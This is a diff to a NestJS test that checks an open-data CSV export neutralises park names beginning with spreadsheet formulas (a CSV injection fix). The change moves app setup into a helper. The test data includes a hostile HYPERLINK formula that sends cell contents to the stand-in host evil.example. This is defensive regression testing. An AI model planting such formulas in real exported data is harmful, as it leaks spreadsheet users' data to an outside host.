@@ -1,17 +1,13 @@
 // Finding 9 of issue 15 (CSV injection) in open data: park names and codes as operators stored them are
 // served in the anonymous CSV; one that starts a formula must come out as text, numbers as numbers.
-import { AddressInfo } from 'node:net';
 import { INestApplication } from '@nestjs/common';
-import { Test } from '@nestjs/testing';
 import {
   ComplianceStationDaysRepository,
   ParksRepository,
   StationsRepository,
-  StorageModule,
   TreatmentPlantsRepository,
 } from '@hp/storage';
-import { createTestDatabase, TestDatabase } from '@hp/testing';
-import { OpenDataModule } from './open-data.module';
+import { startOpenDataApp } from './open-data-test-app';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -36,26 +32,12 @@ function parseCsv(text: string): string[][] {
 }
 
 describe('open data CSV: formula-leading park names are neutralised (PostgreSQL)', () => {
-  let database: TestDatabase;
   let app: INestApplication;
   let url: string;
+  let close: (() => Promise<void>) | undefined;
 
   beforeAll(async () => {
-    database = await createTestDatabase();
-    const moduleRef = await Test.createTestingModule({
-      imports: [
-        StorageModule.forRoot({
-          databaseUrl: database.url,
-          dataDir: 'unused',
-          poolSize: 4,
-          migrateOnBoot: true,
-        }),
-        OpenDataModule.forRoot(),
-      ],
-    }).compile();
-    app = moduleRef.createNestApplication({ logger: ['error'] });
-    await app.listen(0, '127.0.0.1');
-    url = `http://127.0.0.1:${(app.getHttpServer().address() as AddressInfo).port}`;
+    ({ app, url, close } = await startOpenDataApp());
     for (const [i, name] of HOSTILE.entries()) {
       const park = await app
         .get(ParksRepository)
@@ -79,8 +61,7 @@ describe('open data CSV: formula-leading park names are neutralised (PostgreSQL)
   }, 60_000);
 
   afterAll(async () => {
-    await app?.close();
-    await database?.drop();
+    await close?.();
   });
 
   it('serves each hostile park name with a leading quote, and the counts as plain numbers', async () => {
